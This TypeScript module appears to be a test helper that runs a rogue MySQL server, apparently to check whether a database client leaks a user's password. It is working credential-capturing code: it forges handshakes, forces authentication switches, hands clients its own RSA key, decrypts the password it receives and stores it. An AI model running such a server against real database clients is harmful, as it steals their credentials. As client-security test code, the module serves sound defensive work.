import { constants, generateKeyPairSync, privateDecrypt } from 'node:crypto';
import { once } from 'node:events';
import { createServer, type Socket } from 'node:net';
import { networkInterfaces } from 'node:os';
import { TLSSocket } from 'node:tls';

/** A server that wants the password: what it offers, and what it asks for when a client answers. */
export interface ThiefOptions {
  /** The method of its greeting. */
  readonly greets: string;
  /** The method it switches to; else it goes on with full authentication at once. */
  readonly switchTo?: string;
  /** Offers TLS with this certificate. */
  readonly tls?: { readonly key: string; readonly cert: string };
}

export interface Thief {
  readonly port: number;
  /** The password as it learnt it, if it did. */
  stolen(): string | null;
  close(): void;
}

const SCRAMBLE = Buffer.from('abcdefghijklmnopqrst');
const { publicKey, privateKey } = generateKeyPairSync('rsa', { modulusLength: 2048 });
const PUBLIC_KEY = publicKey.export({ type: 'spki', format: 'pem' });
const FULL_AUTHENTICATION = Buffer.from([1, 4]);
const SSL_REQUEST_BYTES = 32;

/** An address of this computer that is not loopback; undefined where it has none. */
export const OUTER_ADDRESS: string | undefined = Object.values(networkInterfaces())
  .flatMap((list) => list ?? [])
  .find(({ family, internal }) => family === 'IPv4' && !internal)?.address;

/** Listens on every address and tries to get the password of whoever logs in. */
export async function startThief(options: ThiefOptions): Promise<Thief> {
  let stolen: string | null = null;
  const sockets = new Set<Socket>();
  const server = createServer((socket) => {
    sockets.add(socket);
    rob(socket, options, (password) => {
      stolen = password;
    });
  }).listen(0, '0.0.0.0');
  await once(server, 'listening');
  return {
    port: (server.address() as { port: number }).port,
    stolen: () => stolen,
    close: () => {
      for (const socket of sockets) socket.destroy();
      server.close();
    },
  };
}

function rob(socket: Socket, { greets, switchTo, tls }: ThiefOptions, take: (password: string) => void): void {
  let line: Socket = socket;
  let stage: 'response' | 'switched' | 'password' = 'response';
  let rest = Buffer.alloc(0);
  const send = (payload: Buffer, sequence: number) => line.write(packet(payload, sequence));
  const feed = (bytes: Buffer) => {
    rest = Buffer.concat([rest, bytes]);
    while (rest.length >= 4 && rest.length >= 4 + rest.readUIntLE(0, 3)) {
      const length = rest.readUIntLE(0, 3);
      const [sequence, payload] = [rest[3] ?? 0, Buffer.from(rest.subarray(4, 4 + length))];
      rest = rest.subarray(4 + length);
      answer(payload, sequence + 1);
    }
  };
  const answer = (payload: Buffer, next: number) => {
    if (tls && line === socket && stage === 'response' && payload.length === SSL_REQUEST_BYTES) {
      socket.removeAllListeners('data');
      socket.pause();
      if (rest.length > 0) socket.unshift(rest);
      rest = Buffer.alloc(0);
      line = new TLSSocket(socket, { isServer: true, ...tls });
      line.on('error', () => {}).on('data', feed);
    } else if (payload.includes('S3cret-of-the-user')) take(payload.toString('latin1'));
    else if (stage === 'response' && switchTo !== undefined) {
      stage = switchTo === 'caching_sha2_password' ? 'switched' : 'password';
      send(Buffer.concat([Buffer.from([0xfe]), Buffer.from(`${switchTo}\0`), SCRAMBLE, Buffer.from([0])]), next);
    } else if (stage !== 'password') {
      stage = 'password';
      send(FULL_AUTHENTICATION, next);
    } else if (payload.length === 1) send(Buffer.concat([Buffer.from([1]), Buffer.from(PUBLIC_KEY)]), next);
    else take(decrypt(payload));
  };
  socket.on('error', () => {}).on('data', feed);
  send(greeting(greets, tls !== undefined), 0);
}

function decrypt(bytes: Buffer): string {
  try {
    const padding = constants.RSA_PKCS1_OAEP_PADDING;
    const masked = privateDecrypt({ key: privateKey, padding, oaepHash: 'sha1' }, bytes);
    return Buffer.from(masked.map((byte, i) => byte ^ (SCRAMBLE[i % SCRAMBLE.length] ?? 0))).toString();
  } catch {
    return 'nothing';
  }
}

function packet(payload: Buffer, sequence: number): Buffer {
  const head = Buffer.alloc(4);
  head.writeUIntLE(payload.length, 0, 3);
  head[3] = sequence & 0xff;
  return Buffer.concat([head, payload]);
}

/** All capabilities but compression, several results without EOF, attributes and more factors; TLS as told. */
function greeting(method: string, tls: boolean): Buffer {
  const without = 0x20 | 0x800 | (1 << 24) | (1 << 11) | (1 << 28);
  const flags = ((0xffffffff & ~without) | (tls ? 0x800 : 0)) >>> 0;
  const low = Buffer.alloc(2);
  low.writeUInt16LE(flags & 0xffff);
  const high = Buffer.alloc(2);
  high.writeUInt16LE(flags >>> 16);
  return Buffer.concat([
    Buffer.from([10]),
    Buffer.from('8.0.36\0'),
    Buffer.from([1, 0, 0, 0]),
    SCRAMBLE.subarray(0, 8),
    Buffer.from([0]),
    low,
    Buffer.from([255, 2, 0]),
    high,
    Buffer.from([21]),
    Buffer.alloc(10),
    SCRAMBLE.subarray(8),
    Buffer.from([0]),
    Buffer.from(`${method}\0`),
  ]);
}
